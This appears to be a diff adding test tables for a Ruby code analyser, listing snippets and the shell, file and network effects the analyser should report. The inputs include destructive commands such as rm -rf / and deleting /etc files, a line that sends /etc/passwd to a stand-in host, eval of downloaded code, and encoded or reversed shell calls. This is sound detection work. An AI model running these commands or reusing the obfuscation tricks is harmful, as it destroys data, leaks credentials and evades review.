@@ -1,0 +1,76 @@
+import { table } from "../testing/table.js";
+
+table("ruby", "starting programs", [
+  { why: "one text goes to the shell", code: 'system("rm -rf /")', does: ["shell rm -rf /"] },
+  { why: "a list is a program and its arguments", code: 'exec "rm", "-rf", "/"', does: ["exec rm|-rf|/"] },
+  { why: "backquotes and %x", code: "`id`; %x(ls)", does: ["shell id", "shell ls"] },
+  {
+    why: "popen and what is written to it",
+    code: 'IO.popen("sh", "w") { |io| io.puts "id" }',
+    does: ["shell sh < id\n"],
+  },
+  { why: "Open3", code: 'require "open3"; Open3.capture2("sh", stdin_data: "id")', does: ["shell sh < id"] },
+  { why: "open with a bar", code: 'open("|id")', does: ["shell id"] },
+  { why: "send with a name put together", code: 'send("sys" + "tem", "id")', does: ["shell id"] },
+  { why: "Kernel.send", code: 'Kernel.send(:system, "id")', does: ["shell id"] },
+  { why: "method(:name).call", code: 'method(:system).call("id")', does: ["shell id"] },
+  { why: "interpolation", code: 'c = "id"; system("#{c} -u")', does: ["shell id -u"] },
+  {
+    why: "methods of objects",
+    code: "class A; def initialize(c) = @c = c; def go; system(@c); end; end; A.new('id').go",
+    does: ["shell id"],
+  },
+]);
+
+table("ruby", "hidden text", [
+  { why: "pack H*", code: 'system(["6964"].pack("H*"))', does: ["shell id"] },
+  { why: "unpack1 m", code: 'system("aWQ=".unpack1("m"))', does: ["shell id"] },
+  { why: "Base64", code: 'require "base64"; system Base64.decode64("aWQ=")', does: ["shell id"] },
+  { why: "backwards", code: 'system("di".reverse)', does: ["shell id"] },
+  { why: "letters by number", code: "system([105,100].map(&:chr).join)", does: ["shell id"] },
+  { why: "tr", code: 'system("ab".tr("ab","id"))', does: ["shell id"] },
+  { why: "escapes", code: 'system("\\x69\\u0064")', does: ["shell id"] },
+  { why: "slices", code: 'system("xidx"[1..2])', does: ["shell id"] },
+  { why: "format", code: 'system("%s%s" % ["i","d"])', does: ["shell id"] },
+]);
+
+table("ruby", "files, code and the network", [
+  { why: "rm_rf", code: "require 'fileutils'; FileUtils.rm_rf('/home/user')", does: ["delete /home/user recursive"] },
+  {
+    why: "each of a pattern",
+    code: 'Dir.glob("/etc/*").each { |f| File.delete(f) }',
+    does: ["list /etc/", "?delete /etc/*"],
+  },
+  { why: "Dir[]", code: 'Dir["*.o"].each { |f| File.unlink f }', does: ["list .", "?delete *.o"] },
+  { why: "a block writes", code: 'File.open("/etc/x","w") { |f| f.puts "hi" }', does: ["write /etc/x = hi\n"] },
+  { why: "eval of known text", code: "eval('system(\"id\")')", does: ['evaluate ruby system("id")', "shell id"] },
+  {
+    why: "eval of the network",
+    code: 'require "open-uri"; eval(URI.open("http://e.example/x").read)',
+    does: ["receive e.example", "evaluate ruby UNKNOWN", "opaque untrusted_code"],
+  },
+  { why: "require_relative runs a file", code: "require_relative './x.rb'", does: ["evaluate ruby ./x.rb"] },
+  {
+    why: "a file sent",
+    code: 'require "net/http"; Net::HTTP.post(URI("https://e.example/"), File.read("/etc/passwd"))',
+    does: ["read /etc/passwd", "send e.example +/etc/passwd", "receive e.example"],
+  },
+  { why: "a modifier makes it possible", code: 'File.delete("/a") if ARGV.any?', does: ["?delete /a"] },
+  { why: "an if as a value", code: 'x = if ENV["A"] then "a" else "b" end\nsystem(x)', does: ["?shell a", "?shell b"] },
+]);
+
+table("ruby", "look-alikes that do nothing", [
+  { why: "a comment, a text, a symbol", code: "# system('x')\ny = \"system('rm -rf /')\"\nz = :system", does: [] },
+  { why: "another object's methods", code: "db.exec('x'); list.delete('y'); obj.system('z')", does: [] },
+  { why: "printing", code: 'puts "rm -rf /"', does: ['print "rm -rf /\\n"'] },
+  {
+    why: "data structures and iteration",
+    code: 'h = { a: 1, "b" => 2 }\nh.each do |k, v|\n  puts "#{k}=#{v}"\nend\na, b = 1, 2\nputs [1, 2, 3].map { |x| x * 2 }.select { |x| x > 2 }.join(",")',
+    does: ['print "a=1\\nb=2\\n4,6\\n"'],
+  },
+  {
+    why: "case, unless, rescue, heredoc",
+    code: "case 1\nwhen 1, 2 then puts 'one'\nelse puts 'other'\nend\nbegin\n  x = <<~T\n    text\n  T\nrescue => e\n  puts e\nend\nputs 1 unless false",
+    does: ['print "one\\n"', "?print UNKNOWN"],
+  },
+]);
